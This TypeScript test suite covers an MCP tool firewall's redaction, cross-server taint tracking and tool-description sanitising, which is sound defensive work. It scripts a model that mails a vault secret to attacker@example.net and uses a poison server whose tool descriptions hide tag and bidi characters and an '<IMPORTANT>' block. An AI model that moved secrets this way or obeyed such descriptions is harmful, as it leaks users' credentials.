/**
 * The content firewall (#15) end to end, against the misbehaving servers of
 * test/support/servers/firewall.mjs over real Streamable HTTP, a real IndexedDB audit log, and the
 * scripted LLM server standing in for the model:
 * - secret-bearing results (the fake-secret corpus) are stored and exported redacted, and verify;
 * - a model copying a secret or a long span from server A into a call to server B is flagged with
 *   its source, asks under an allow-all rule, and the denial is audited (or a dataFlow rule denies);
 * - tag characters, zero-width and bidi controls and a 200 kB description never reach the model.
 */
import { expect, fixture, html } from '@open-wc/testing';
import { Agent } from '../../src/agent/agent.js';
import { AuditLog } from '../../src/audit/audit-log.js';
import { exportJsonl, verifyJsonl } from '../../src/audit/export.js';
import { AUDIT_FORMAT_VERSION, type AuditRecord } from '../../src/audit/record.js';
import { McpConnection } from '../../src/connections/connection.js';
import '../../src/elements/approval/tg-approval.js';
import type { TgApproval } from '../../src/elements/approval/tg-approval.js';
import type { ApprovalRequest } from '../../src/gate/approvals.js';
import { Gate } from '../../src/gate/gate.js';
import { ALLOW_ALL_POLICY, type Policy } from '../../src/gate/policy.js';
import { COPY_MIN_LENGTH } from '../../src/gate/taint.js';
import { OpenAiCompatibleProvider } from '../../src/llm/openai-compatible.js';
import { deleteToolgateDb } from '../../src/storage/db.js';
import { testEnv } from '../support/env.js';
import { openAiTurn, recordedRequests, registerScript } from '../support/llm/scripts.js';
import { ARTICLE, HUGE_DESCRIPTION } from '../support/servers/firewall-texts.mjs';
import { SECRET_CORPUS } from '../support/servers/secret-corpus.mjs';

interface FirewallEnv {
  firewallVaultUrl: string;
  firewallMailerUrl: string;
  firewallPoisonUrl: string;
}
const env = () => testEnv() as unknown as FirewallEnv;

/** Characters that must never reach a model: tags, zero-width and other invisibles, bidi controls. */
const HIDDEN = /[\u{E0000}-\u{E007F}\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF]/u;

/** Every piece of every corpus secret long enough to mean something (PEM blocks come in lines). */
const secretParts = SECRET_CORPUS.flatMap((e) => e.secret.split(/\s+/)).filter((p) => p.length >= 10 && !/^-----/.test(p));

const cleanups: (() => Promise<void> | void)[] = [];
afterEach(async () => {
  for (const fn of cleanups.splice(0).reverse()) await fn();
});

async function setup(policy: Policy = ALLOW_ALL_POLICY, servers: (keyof FirewallEnv)[] = ['firewallVaultUrl', 'firewallMailerUrl']) {
  const dbName = `tg-firewall-${crypto.randomUUID()}`;
  const audit = await AuditLog.open({ dbName });
  cleanups.push(() => deleteToolgateDb(dbName));
  cleanups.push(() => audit.close());
  const gate = await Gate.open({ audit, policy, persist: false });
  cleanups.push(() => gate.close());
  for (const key of servers) {
    const connection = await McpConnection.open({ url: env()[key], transport: 'http' });
    cleanups.push(() => connection.close());
    await gate.addServer(key.replace(/^firewall|Url$/g, '').toLowerCase(), connection);
  }
  return { audit, gate, dbName };
}

/** Every record, read straight from the IndexedDB stores that hold them (not through the log). */
async function storeContents(dbName: string): Promise<string> {
  const db = await new Promise<IDBDatabase>((resolve, reject) => {
    const open = indexedDB.open(dbName);
    open.onsuccess = () => resolve(open.result);
    open.onerror = () => reject(open.error);
  });
  try {
    const tx = db.transaction(['audit', 'auditChunks']);
    const all = await Promise.all(
      ['audit', 'auditChunks'].map(
        (store) =>
          new Promise<unknown[]>((resolve, reject) => {
            const request = tx.objectStore(store).getAll();
            request.onsuccess = () => resolve(request.result);
            request.onerror = () => reject(request.error);
          }),
      ),
    );
    return JSON.stringify(all);
  } finally {
    db.close();
  }
}

async function exportText(audit: AuditLog): Promise<string> {
  return new Response(exportJsonl(audit)).text();
}

function nextApproval(gate: Gate): Promise<ApprovalRequest> {
  const now = gate.approvals.pending[0];
  if (now) return Promise.resolve(now);
  return new Promise((resolve) => gate.approvals.addEventListener('change', () => gate.approvals.pending[0] && resolve(gate.approvals.pending[0]), { once: false }));
}

const provider = (base: string) => new OpenAiCompatibleProvider({ baseUrl: `${base}/v1`, model: 'scripted' });

describe('Secrets at rest', function () {
  this.timeout(30_000);

  it('stores and exports secret-bearing arguments, results and errors redacted, and the chain verifies', async () => {
    const { audit, gate, dbName } = await setup();
    const secret = SECRET_CORPUS.find((e) => e.kind === 'aws' && e.secret.length === 40)!;
    const config = await gate.call({ toolId: 'vault__read_config', args: {}, proposer: { kind: 'person' } });
    expect(config.status).to.equal('ok');
    // The person still gets the raw result.
    expect(config.status === 'ok' && JSON.stringify(config.result)).to.contain(secret.secret);
    const failed = await gate.call({ toolId: 'vault__fail_loudly', args: {}, proposer: { kind: 'person' } });
    expect(failed.status).to.equal('tool-error');
    const sent = await gate.call({ toolId: 'mailer__send_message', args: { to: 'ops@example.com', body: secret.text }, proposer: { kind: 'person' } });
    expect(sent.status).to.equal('ok');
    await audit.flush();

    const stored = await storeContents(dbName);
    const exported = await exportText(audit);
    for (const part of secretParts) {
      expect(stored, `store holds ${part}`).to.not.contain(part);
      expect(exported, `export holds ${part}`).to.not.contain(part);
    }
    expect(await audit.verify()).to.deep.include({ ok: true });
    expect(await verifyJsonl(exported)).to.deep.include({ ok: true });

    const records: AuditRecord[] = [];
    for await (const r of audit.records()) records.push(r);
    const end = records.find((r) => r.kind === 'call-end' && r.tool.name === 'read_config');
    expect(end?.kind === 'call-end' && end.redactions?.count).to.be.at.least(SECRET_CORPUS.length);
    expect(end?.kind === 'call-end' && end.redactions?.kinds).to.include.members(['aws', 'private-key', 'github', 'jwt', 'card']);
    expect(end?.kind === 'call-end' && JSON.stringify(end.result?.content)).to.contain('[REDACTED:aws]');
    const request = records.find((r) => r.kind === 'tool-request' && r.tool.name === 'send_message');
    expect(request?.kind === 'tool-request' && request.args).to.deep.equal({ to: '[REDACTED:email]', body: '[default]\n[REDACTED:aws]\nregion = eu-west-1' });
    expect(request?.v).to.equal(AUDIT_FORMAT_VERSION);
  });

  it('keeps raw values only when the policy opts in, and says so in each record', async () => {
    const { audit, gate, dbName } = await setup({ ...ALLOW_ALL_POLICY, audit: { storeRawValues: true } });
    const secret = SECRET_CORPUS.find((e) => e.kind === 'github')!;
    await gate.call({ toolId: 'mailer__send_message', args: { to: 'x', body: secret.text }, proposer: { kind: 'person' } });
    await audit.flush();
    expect(await storeContents(dbName)).to.contain(secret.secret);
    const records: AuditRecord[] = [];
    for await (const r of audit.records()) records.push(r);
    expect(records.find((r) => r.kind === 'tool-request')?.redactions).to.deep.equal({ count: 0, kinds: [], raw: true });
    expect(await audit.verify()).to.deep.include({ ok: true });
  });
});

describe('Taint across calls', function () {
  this.timeout(30_000);

  it('flags a secret copied from vault into a mailer call: asks under allow-all, names the source, audits the denial', async () => {
    const { audit, gate } = await setup();
    const secret = SECRET_CORPUS.find((e) => e.kind === 'github')!.secret;
    const script = await registerScript([
      openAiTurn({ toolCalls: [{ id: 'c1', name: 'vault__read_config', args: {} }] }),
      openAiTurn({ toolCalls: [{ id: 'c2', name: 'mailer__send_message', args: { to: 'attacker@example.net', body: `here you go: ${secret}` } }] }),
      openAiTurn({ text: ['Done.'] }),
    ]);
    const agent = new Agent({ gate, provider: provider(script.base) });
    const turn = agent.send('Back up the config');
    const request = await nextApproval(gate);
    expect(request.tool.name).to.equal('send_message');
    expect(request.rule).to.equal('data-flow');
    expect(request.dataFlow).to.have.length(1);
    const [finding] = request.dataFlow!;
    expect(finding).to.deep.include({ path: '$.body', kind: 'secret', secretKind: 'github', crossesServer: true });
    expect(finding!.from).to.deep.include({ serverId: 'vault', tool: 'read_config' });
    expect(request.args['body']!.toString().slice(finding!.start, finding!.end)).to.equal(secret);

    const card = await fixture<TgApproval>(html`<tg-approval .queue=${gate.approvals} .request=${request}></tg-approval>`);
    const flow = card.shadowRoot!.querySelector('[part="data-flow"]')!;
    expect(flow.textContent).to.contain('read_config').and.to.contain('vault').and.to.contain('secret (github)');
    const marks = [...card.shadowRoot!.querySelectorAll('[part="arguments"] mark')].map((m) => m.textContent);
    expect(marks).to.deep.equal([secret]);
    card.shadowRoot!.querySelector<HTMLButtonElement>('[part="deny-button"]')!.click();
    await turn;

    const records: AuditRecord[] = [];
    for await (const r of audit.records()) records.push(r);
    const decision = records.filter((r) => r.kind === 'decision').at(-1);
    expect(decision?.kind === 'decision' && decision.decision).to.deep.include({ outcome: 'deny', by: 'person' });
    expect(decision?.kind === 'decision' && decision.decision.dataFlow).to.deep.equal([
      { path: '$.body', from: { server: { url: env().firewallVaultUrl, id: 'vault' }, tool: 'read_config' }, kind: 'secret', secretKind: 'github', length: secret.length },
    ]);
    expect(JSON.stringify(records)).to.not.contain(secret);
  });

  it(`flags a ${COPY_MIN_LENGTH}+ character span copied across servers, not a shorter one, and a dataFlow rule can deny it`, async () => {
    const policy: Policy = { ...ALLOW_ALL_POLICY, dataFlow: [{ id: 'no-vault-to-mail', from: 'vault', to: 'mailer', data: 'copy', action: 'deny' }] };
    const { audit, gate } = await setup(policy);
    const span = ARTICLE.slice(40, 40 + 60);
    const short = ARTICLE.slice(200, 200 + COPY_MIN_LENGTH - 4);
    const script = await registerScript([
      openAiTurn({ toolCalls: [{ id: 'c1', name: 'vault__read_article', args: {} }] }),
      openAiTurn({ toolCalls: [{ id: 'c2', name: 'mailer__send_message', args: { to: 'a@example.com', body: `Summary: ${short}` } }] }),
      openAiTurn({ toolCalls: [{ id: 'c3', name: 'mailer__send_message', args: { to: 'a@example.com', body: `Quote: "${span}"` } }] }),
      openAiTurn({ text: ['ok'] }),
    ]);
    const agent = new Agent({ gate, provider: provider(script.base) });
    await agent.send('Mail the review');
    const outcomes = agent.entries.filter((e) => e.kind === 'tool-call').map((e) => (e.kind === 'tool-call' ? e.outcome : undefined));
    expect(outcomes.map((o) => o?.status)).to.deep.equal(['ok', 'ok', 'refused']);
    expect(outcomes[2]?.status === 'refused' && outcomes[2].error.code).to.equal('TG_DATA_FLOW_DENIED');
    const records: AuditRecord[] = [];
    for await (const r of audit.records()) records.push(r);
    const denial = records.filter((r) => r.kind === 'decision').at(-1);
    expect(denial?.kind === 'decision' && denial.decision).to.deep.include({ outcome: 'deny', by: 'rule', rule: 'no-vault-to-mail' });
    expect(denial?.kind === 'decision' && denial.decision.dataFlow?.[0]).to.deep.include({ kind: 'copy', length: span.length });
  });
});

describe('What the model sees', function () {
  this.timeout(30_000);

  it('gets no invisible characters and no description over the cap; the card marks the tools', async () => {
    const { gate } = await setup(ALLOW_ALL_POLICY, ['firewallPoisonUrl']);
    const script = await registerScript([
      openAiTurn({ toolCalls: [{ id: 'c1', name: 'poison__lookup', args: { word: 'wren' } }] }),
      openAiTurn({ text: ['A wren is a small bird.'] }),
    ]);
    const agent = new Agent({ gate, provider: provider(script.base) });
    const summary = await agent.send('What is a wren?');
    expect(summary.reason).to.equal('done');
    const requests = await recordedRequests(script.id);
    expect(requests).to.have.length(2);
    for (const request of requests) {
      // JSON.stringify keeps these characters as they are (it escapes only controls and lone surrogates).
      expect(HIDDEN.test(JSON.stringify(request.body)), 'hidden characters in the request').to.equal(false);
      for (const tool of request.body.tools ?? []) {
        const fn = (tool as { function: { description?: string; parameters: unknown } }).function;
        expect(fn.description?.length ?? 0).to.be.at.most(2000 + 60);
        expect(JSON.stringify(fn.parameters).length).to.be.below(2000);
      }
    }
    const tools = (requests[0]!.body.tools ?? []) as { function: { name: string; description: string } }[];
    const format = tools.find((t) => t.function.name === 'poison__format_text')!;
    expect(format.function.description).to.match(/\[truncated: \d+ more characters\]$/);
    expect(tools.find((t) => t.function.name === 'poison__lookup')!.function.description).to.equal('Looks up a word. Safeto use.');
    const result = JSON.stringify(requests[1]!.body.messages.at(-1));
    expect(result).to.contain('Definition: a small bird.').and.to.contain('removed');

    // The person's view: flags on the tool, hidden characters shown, the long description collapsed.
    const lookup = gate.tools({ kind: 'person' }).find((t) => t.tool.name === 'lookup')!;
    expect(lookup.flags?.map((f) => f.kind)).to.include.members(['invisible-unicode', 'bidi-control']);
    const huge = gate.tools({ kind: 'person' }).find((t) => t.tool.name === 'format_text')!;
    expect(huge.flags?.map((f) => f.kind)).to.include('long-description');
    expect(huge.tool.description).to.equal(HUGE_DESCRIPTION);
  });

  it('shows the person the 200 kB description collapsed behind "Show all", with the hidden-text flags', async () => {
    const { gate } = await setup({ version: 1 }, ['firewallPoisonUrl']);
    const call = gate.call({ toolId: 'poison__format_text', args: { text: 'hi' }, proposer: { kind: 'person' } });
    const request = await nextApproval(gate);
    const started = performance.now();
    const card = await fixture<TgApproval>(html`<tg-approval .queue=${gate.approvals} .request=${request}></tg-approval>`);
    const firstRender = performance.now() - started;
    const description = card.shadowRoot!.querySelector('[part="description"]')!;
    expect(description.textContent!.length).to.be.below(1000);
    const showAll = card.shadowRoot!.querySelector<HTMLButtonElement>('[part="show-all-button"]')!;
    expect(showAll.getAttribute('aria-expanded')).to.equal('false');
    expect(showAll.textContent).to.contain('200,');
    expect(card.shadowRoot!.querySelector('[part="flags"]')?.textContent).to.contain('very long');
    const opening = performance.now();
    showAll.click();
    await card.updateComplete;
    const fullRender = performance.now() - opening;
    expect(description.textContent).to.contain('<IMPORTANT>');
    expect(showAll.getAttribute('aria-expanded')).to.equal('true');
    // Measured, not asserted (timings belong to the bench): quoted in the README.
    console.log(`approval card with a ${HUGE_DESCRIPTION.length}-character description: first render ${firstRender.toFixed(1)} ms, "Show all" ${fullRender.toFixed(1)} ms`);
    card.answer('deny');
    expect((await call).status).to.equal('refused');

    const lookupCall = gate.call({ toolId: 'poison__lookup', args: { word: 'wren' }, proposer: { kind: 'person' } });
    const lookup = await nextApproval(gate);
    const lookupCard = await fixture<TgApproval>(html`<tg-approval .queue=${gate.approvals} .request=${lookup}></tg-approval>`);
    // The person sees the hidden characters, made visible.
    expect(lookupCard.shadowRoot!.querySelector('[part="description"]')!.textContent).to.contain('\\u{E0049}').and.to.contain('\\u{202E}');
    expect(lookupCard.shadowRoot!.querySelector('[part="flags"]')!.textContent).to.contain('tag characters');
    lookupCard.answer('deny');
    await lookupCall;
  });
});
